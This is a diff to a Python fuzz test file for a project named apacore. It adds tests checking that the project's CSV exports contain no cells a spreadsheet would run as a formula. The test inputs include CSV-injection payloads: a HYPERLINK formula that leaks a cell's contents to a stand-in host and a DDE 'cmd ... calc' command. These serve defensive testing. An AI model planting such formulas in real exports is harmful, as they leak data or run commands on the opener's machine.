@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import datetime as dt
 import os
+import re
 import sys
 import time
 from collections.abc import Callable, Iterator
@@ -116,8 +117,9 @@ def _floats(value: Any) -> Iterator[Any]:
             yield from _floats(item)
 
 
-def survives(call: Callable[[], Any]) -> Any:
-    """Run ``call``: it returns a float-free value or raises an ApacoreError, in time."""
+def survives(call: Callable[[], Any], *, timed: bool = True) -> Any:
+    """Run ``call``: it returns a float-free value or raises an ApacoreError, in time
+    (``timed``; else its work is bounded by the test's own measure)."""
     start = time.perf_counter()
     try:
         result = call()
@@ -125,7 +127,7 @@ def survives(call: Callable[[], Any]) -> Any:
         assert "\n" not in str(exc), f"a message of more than one line: {exc!r}"
         result = None
     elapsed = time.perf_counter() - start
-    assert elapsed < TIME_BOUND, f"took {elapsed:.2f} s"
+    assert not timed or elapsed < TIME_BOUND, f"took {elapsed:.2f} s"
     assert not list(_floats(result)), f"a binary float in {result!r}"
     return result
 
@@ -298,7 +300,7 @@ def test_score_path(
     """An office scored end to end with one hostile figure: the arithmetic stays bounded."""
     import shutil
 
-    from apacore.api import score_path
+    from apacore.office import score_path
 
     folder = tmp_path_factory.mktemp("office")
     shutil.copytree(_OFFICE, folder, dirs_exist_ok=True)
@@ -307,3 +309,117 @@ def test_score_path(
     path = folder / file
     path.write_text(path.read_text("utf-8").replace(key, f"{name} = {_toml(value)}", 1), "utf-8")
     survives(lambda: score_path(folder, as_of=as_of))
+
+
+# --------------------------------------------------------------------------- what apacore writes
+
+
+def spreadsheet_runs(cell: str) -> bool:
+    """Whether Excel, LibreOffice or Google Sheets would run ``cell`` as a formula (OWASP:
+    it starts with =, +, -, @, a tab or a carriage return), a plain number aside."""
+    return (
+        cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+        and cell != "-"
+        and re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?%?", cell) is None
+    )
+
+
+formula_text = st.one_of(
+    hostile_text,
+    st.builds(
+        lambda lead, rest: lead + rest,
+        st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", "\ufeff=", "-1+", "+1"]),
+        st.sampled_from(
+            ['HYPERLINK("http://x.example/?leak="&A1,"x")', "SUM(1+1)*cmd|' /C calc'!A0", "2.5", ""]
+        ),
+    ),
+)
+
+_RECORD: list[Any] = []
+
+
+def _record() -> Any:
+    """A real office's batch record (scored once), to carry hostile names."""
+    if not _RECORD:
+        from apacore.batch import score_office
+
+        _RECORD.append(score_office(_OFFICE, path="office"))
+    return _RECORD[0]
+
+
+@FUZZ
+@given(st.lists(formula_text, min_size=5, max_size=5), st.sampled_from(["en", "bn"]))
+def test_no_csv_cell_a_spreadsheet_would_run(names: list[str], lang: str) -> None:
+    """The batch CSV (names, folders, errors) and the scorecard CSV (names of the office's
+    indicators, areas): every cell is text a spreadsheet shows; the figures stay numbers."""
+    import csv
+    import io
+
+    from apacore.batch import OfficeError
+    from apacore.batch.output import batch_chunks
+    from apacore.batch.rollup import rank_offices
+
+    record = attrs.evolve(_record(), path=names[0], name_bn=names[1], name_en=names[2])
+    ranking = rank_offices([record], None)
+    errors = [OfficeError(path=names[3], error=names[4])]
+    text = "".join(batch_chunks("csv", ranking, errors, lang=lang, bom=False))
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert not [cell for row in rows for cell in row if spreadsheet_runs(cell)]
+    assert rows[1][11:14] == [record.total["marks"], record.total["progress_marks"], "30.00"]
+
+
+@FUZZ
+@given(formula_text, st.sampled_from(["en", "bn"]))
+def test_no_scorecard_csv_cell_a_spreadsheet_would_run(
+    tmp_path_factory: pytest.TempPathFactory, name: str, lang: str
+) -> None:
+    import csv
+    import io
+    import shutil
+
+    from apacore.office import score_path
+    from apacore.render.formats import render
+
+    folder = tmp_path_factory.mktemp("office")
+    shutil.copytree(_OFFICE, folder, dirs_exist_ok=True)
+    path = folder / "agreement.toml"
+    text = path.read_text("utf-8")
+    for old in ('name_bn = "সমবায় গঠন"', 'name_bn = "সমিতি নিবন্ধিত"'):
+        text = text.replace(old, f"name_bn = {_toml(name)}", 1)
+    path.write_text(text, "utf-8")
+    card = survives(lambda: score_path(folder))
+    if card is None:  # a control character or an over-long name, refused at load
+        return
+    rows = list(csv.reader(io.StringIO(render(card, "csv", lang, bom=False), newline="")))
+    assert not [cell for row in rows for cell in row if spreadsheet_runs(cell)]
+
+
+# --------------------------------------------------------------------------- random sheets
+
+
+@FUZZ
+@given(st.randoms(use_true_random=False))
+def test_import_reads_a_random_sheet_by_what_it_holds(tmp_path: Path, rng: Any) -> None:
+    """A workbook of a few kilobytes whose cells and merged ranges reach as far as
+    XFD1048576: the importer keeps the contract, and the rows it makes are bounded by
+    the cells the sheet holds (never the grid they span), so its time is too.
+
+    The bound is on the size of the work, not a clock: a busy machine cannot fail it,
+    and benchmarks/fuzz.py measures what that work costs at apacore's limits."""
+    from apacore.importer.xlsx import read_workbook
+    from tests.sheets import random_sheet, xlsx
+
+    sheet = random_sheet(rng)
+    path = tmp_path / "progress.xlsx"
+    path.write_bytes(xlsx(sheet))
+    assert path.stat().st_size < 1_000_000
+    survives(lambda: import_table(path, fiscal_year="2024-25", quarter=2), timed=False)
+    segments = survives(lambda: read_workbook(path), timed=False)
+    if segments is None:  # refused with one line (beyond a limit)
+        return
+    rows, width = sheet.extent
+    made = [row for _title, sheet_rows, _hidden in segments for row in sheet_rows]
+    assert sum(len(cells) for _line, cells, _flaws in made) <= rows * width
+    assert len(made) <= 2 * rows
+    flaws = sum(len(row_flaws) for _line, _cells, row_flaws in made)
+    assert flaws <= len(sheet.cells) + len(sheet.merged) * rows * width
